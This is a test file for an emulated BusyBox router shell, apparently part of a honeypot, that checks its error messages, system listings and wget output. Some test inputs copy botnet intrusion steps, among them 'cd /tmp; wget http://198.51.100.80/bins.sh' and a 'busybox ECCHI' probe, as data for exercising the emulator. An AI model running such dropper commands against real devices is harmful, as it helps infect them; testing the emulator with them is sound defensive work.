import { describe, expect, it } from 'vitest';
import { DEFAULT_LIMITS } from '../../../limits.ts';
import { testMachine, testPolicy } from '../../../test-machine.ts';
import { createHostRegistry } from '../../host/create-host.ts';
import { runCommand } from '../test-shell.ts';

const START_MS = Date.UTC(2026, 10, 21, 11, 35, 44);

/** The router persona, on which every program is an applet by its link's name. */
function router() {
  const registry = createHostRegistry({
    machine: testMachine('router'),
    policy: testPolicy(),
    limits: DEFAULT_LIMITS,
    clock: { now: () => START_MS },
    random: { next: () => 0.5, bytes: (length) => new Uint8Array(length) },
  });
  return registry.hostFor('198.51.100.9');
}

describe('the programs of a router', () => {
  it('are applets by the name of their link', async () => {
    const { stdout, stderr, exitCode } = await runCommand('ls /nosuch; cat /nosuch; rm /nosuch; chmod 777 /nosuch', {
      host: router(),
    });
    expect({ stdout, stderr, exitCode }).toEqual({
      stdout: '',
      stderr:
        "ls: /nosuch: No such file or directory\ncat: can't open '/nosuch': No such file or directory\nrm: can't remove '/nosuch': No such file or directory\nchmod: /nosuch: No such file or directory\n",
      exitCode: 1,
    });
  });

  it('complain in the shell of BusyBox, which knows echo -e', async () => {
    const { stdout, stderr } = await runCommand('echo -ne "\\x41\\n"; nosuch; cd nosuch; [[ a == a ]] && echo yes', {
      host: router(),
    });
    expect({ stdout, stderr }).toEqual({
      stdout: 'A\nyes\n',
      stderr: "sh: nosuch: not found\nsh: cd: line 0: can't cd to nosuch: No such file or directory\n",
    });
  });

  it('show the machine of the persona in BusyBox forms', async () => {
    const host = router();
    const { stdout } = await runCommand(
      'ps | head -n 2; df | tail -n 1; ifconfig lo | head -n 2; route -n | tail -n 1',
      {
        host,
      },
    );
    const lines = stdout.split('\n');
    expect(lines[0]).toBe('PID   USER     COMMAND');
    expect(lines[1]).toMatch(/^ {4}1 root {5}\S/);
    expect(lines[2]).toMatch(/^\S+ +\d+ +\d+ +\d+ +\d+% \/\S*$/);
    expect(lines[3]).toBe('lo        Link encap:Local Loopback  ');
    expect(lines[4]).toBe('          inet addr:127.0.0.1  Mask:255.0.0.0');
    expect(lines[5]).toMatch(/^[\d.]+ +0\.0\.0\.0 +[\d.]+ +U {5}0 {6}0 {8}0 \w+$/);
  });

  it('say which BusyBox they are, and which applets there are', async () => {
    const host = router();
    const { stdout } = await runCommand('busybox | head -n 1; busybox --list | wc -l; busybox ECCHI; telnetd --help', {
      host,
    });
    expect(stdout).toMatch(/^BusyBox v1\.35\.0 \([^)]*\) multi-call binary\.\n269\n$/);
  });

  it('fetch a file and say so in the words of BusyBox', async () => {
    const host = router();
    const { stdout, stderr } = await runCommand(
      'cd /tmp; wget http://198.51.100.80/bins.sh; wget http://198.51.100.80/bins.sh; ls',
      {
        host,
      },
    );
    expect(stdout).toContain('bins.sh\n');
    expect(stderr).toMatch(
      /^Connecting to 198\.51\.100\.80:80 \(198\.51\.100\.80:80\)\nsaving to 'bins\.sh'\nbins\.sh {14}100% \|\*{32}\| +\d+k? {2}0:00:00 ETA\n'bins\.sh' saved\nConnecting to 198\.51\.100\.80:80 \(198\.51\.100\.80:80\)\nwget: can't open 'bins\.sh': File exists\n$/,
    );
  });
});
